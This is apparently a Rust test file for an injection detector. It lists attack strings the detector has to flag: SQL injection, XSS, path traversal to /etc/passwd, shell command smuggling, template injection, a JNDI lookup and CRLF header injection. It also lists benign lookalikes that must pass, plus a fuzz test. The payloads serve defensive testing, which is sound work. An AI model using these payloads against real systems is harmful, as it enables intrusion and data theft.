//! Attacks and the honest texts next to them.

use proptest::prelude::{ProptestConfig, any, proptest};

use super::{Confidence, Detector, examine};

fn found(text: &str) -> Vec<(Detector, Confidence)> {
    examine(text.as_bytes()).into_iter().map(|catch| (catch.probe.detector, catch.probe.confidence)).collect()
}

#[test]
fn a_value_that_breaks_out_is_found() {
    for (text, detector) in [
        ("x' or 3=3 --", Detector::Sql),
        ("id=7%27%20union%20select%20a,b%20from%20t", Detector::Sql),
        (r#"{"q": "<svg/onload=alert(2)>"}"#, Detector::Script),
        ("..%252f..%252f..%252fetc/passwd", Detector::Path),
        ("host=10.1.1.1; cat /etc/passwd", Detector::Command),
        ("{{7*'7'}}", Detector::Template),
        ("X-Api-Version: ${jndi:ldap://a.example/b}", Detector::Code),
        ("user[$ne]=x", Detector::Query),
        ("/%0d%0aSet-Cookie: a=b", Detector::Server),
        ("3` or exists(select 3)-- ", Detector::Sql),
        ("iif(41=17,3,3/0)", Detector::Sql),
        (r#"{"q": "x\" or \"y\"=\"y"}"#, Detector::Sql),
        ("2.e(union select 4", Detector::Sql),
        ("3;who$()ami", Detector::Command),
        ("3;time id", Detector::Command),
        ("10.1.1.1%26%26printf a", Detector::Command),
        ("3;a=who;b=ami;$a$b", Detector::Command),
        ("{#9*9#}", Detector::Template),
        ("{{ ''['__cl'+'ass__'] }}", Detector::Template),
        ("O:+3:\"Box\":0:{}", Detector::Code),
        ("gASVIAAAAAAAAACMBXBvc2l4lIw=", Detector::Code),
        ("x%0d%0aRSET", Detector::Server),
        ("http://127。0。0。1/", Detector::Server),
        ("<meta charset=\"utf-7\">", Detector::Script),
        (".%00./.%00./.%00./etc/resolv.conf", Detector::Path),
    ] {
        assert!(found(text).iter().any(|(own, _)| *own == detector), "{text}: {:?}", found(text));
    }
}

#[test]
fn an_honest_value_is_not() {
    for text in [
        "O'Brien",
        "5 < 6 and 7 > 3",
        "the SELECT committee or 1 other",
        "Tom & Jerry's",
        "rock 'n' roll & blues",
        "SELECT name FROM users WHERE a = 'x' OR b = 'y'",
        "ls -la | grep txt",
        "What does ' OR 1=1 -- do?",
        "How do I stop <script>alert(1)</script> in comments?",
        "import x from '../../utils/x.js'",
        "https://shop.example/a?size=10&sort=price",
        "<script src=\"app.js\"></script>",
        "Classify these as 'useful' or 'not useful'.",
        "test \"$A\" = \"/bin/zsh\"",
        "<button onclick=\"save()\">Save</button>",
        "Was macht <script>alert(1)</script> hier?",
        "¿Qué significa ' OR 1=1 -- en un formulario?",
        "Объясни, зачем нужен ' OR 1=1 --",
        "解释 ' OR 1=1 --",
        "{\"q\": \"order by phone\"}",
        "{\"q\": \"\\\\frac{1}{2}\"}",
        "5' 11\"",
        "the \"Order by\" field isn't there",
        "The customer wrote: \"--\" - please store it",
    ] {
        assert_eq!(found(text), Vec::new(), "{text}");
    }
}

#[test]
fn a_field_is_held_to_more_than_a_sentence() {
    for text in [
        "q=version()",
        "/a?q=ls%20-l",
        "X-Note: @import 'a'",
        "GET /?a=1%20rlike%201 HTTP/1.1",
        "q=3 or 1",
        "q=sleep 9",
        "q=get-childitem",
        "q=-2147483649",
        "User-Agent: masscan",
        "Range: bytes=0-1,2-3,4-5,6-7,8-9,10-11",
    ] {
        assert!(!found(text).is_empty(), "{text}");
    }
    for text in [
        "q=sleep+well",
        "/a?q=cat%20food",
        "{\"q\": \"O'Neil & Sons; est. 1950\"}",
        "sql=select a, b from t",
        "q=name | date | type",
        "q=12 Main St; Apt 4",
        "q=Bob; id 55",
        "q=JavaScript: The Good Parts",
        "q=onion=2",
        "q=10 or 12",
        "/a?q=..%2Fimages%2Flogo.png",
        "q=set a; set b",
        "q==IF(A1>5,\"yes\",\"no\")",
    ] {
        assert_eq!(found(text), Vec::new(), "{text}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn no_text_is_too_odd(text in "[ -~\\n\u{e9}\u{2019}]{0,80}", bytes in any::<Vec<u8>>()) {
        examine(text.as_bytes());
        examine(&bytes);
        for piece in ["'", "<a ", "%25", "{{", "$(", "/*!", "\\u{", "&#x", "{\"a\":\""] {
            let both = format!("{piece}{text}{piece}");
            let catches = examine(both.as_bytes());
            assert!(catches.iter().all(|catch| both.get(catch.start..catch.end).is_some()));
        }
    }
}
